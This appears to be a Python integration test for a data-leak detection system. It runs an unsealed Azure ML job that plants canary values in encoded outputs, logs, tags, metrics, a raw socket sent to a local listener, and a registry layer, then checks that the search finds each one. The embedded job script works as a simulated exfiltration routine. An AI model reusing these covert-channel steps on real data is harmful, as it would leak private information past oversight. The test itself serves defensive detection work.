"""A job that is not sealed, which does what attacks want to do: it shows that the search sees every place."""

import io
import json
import secrets
import tarfile
from typing import Final

from local_stack.leak_search import Canaries
from shared.oci.references import digest_of
from tests.integration.azure_ml import sdk as calls
from tests.integration.leaks.lab import LeakLab
from tests.integration.leaks.listeners import told

FREE: Final = """
import base64, gzip, json, pathlib, socket, struct, sys
rows = json.loads(pathlib.Path("rows.json").read_text())
outputs = pathlib.Path("outputs")
outputs.mkdir()
(outputs / "model.json.gz").write_bytes(gzip.compress(base64.b64encode(json.dumps(rows).encode())))
(outputs / "model.bin").write_bytes(b"".join(struct.pack("<4f", *numbers) for _, numbers in rows))
print(rows[0][0])
from azureml.core import Run
run = Run.get_context(allow_offline=False)
run.set_tags({"edgetrain.failure": rows[5][0]})
run.log(rows[10][0], 0.5)
run.flush()
with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as one:
    one.sendall(rows[15][0].encode())
"""


def freely(lab: LeakLab, canaries: Canaries) -> dict[str, list[str]]:
    """Let a job that is not sealed do what attacks want to do: what was found, by where it was put."""
    run_id = f"unsealed-{secrets.token_hex(4)}"
    folder = lab.folder / "submitted" / run_id
    folder.mkdir(parents=True)
    (folder / "job.py").write_text(FREE, encoding="utf-8")
    rows = json.dumps([[row.word, row.numbers] for row in canaries.rows])
    (lab.vm.home / "rows.json").write_text(rows, encoding="utf-8")
    job = folder / "job.py"
    job.write_text(FREE.replace('"rows.json"', repr(str(lab.vm.home / "rows.json"))), encoding="utf-8")
    before = len(lab.listeners.heard)
    python, port = str(lab.job.python), str(lab.listeners.places["tcp"])
    lab.lab.sdk(calls.submit, run_id, folder, port, python=python, seconds=300)
    facts = lab.end(run_id)
    assert facts["status"] == "Completed", facts
    with lab.registry.client() as client:
        layer = _layer(json.dumps(canaries.rows[20].word).encode())
        client.put_blob("leak", digest_of(layer), io.BytesIO(layer))
    found = lab.search(canaries).found
    return {
        "a/outputs": [each for each in found if "in base64" in each or "single precision" in each or "base64" in each],
        "a/log": [each for each in found if each.startswith("row 0, word as it is")],
        "a/tag": [each for each in found if each.startswith("row 5, word as it is")],
        "a/metric": [each for each in found if each.startswith("row 10, word as it is")],
        "the registry": [each for each in found if each.startswith("row 20, word") and "registry" in each],
        "a listener": told(lab.listeners.heard[before:], canaries),
    }


def _layer(content: bytes) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        entry = tarfile.TarInfo("var/azureml-app/model/rows.json")
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))
    return packed.getvalue()
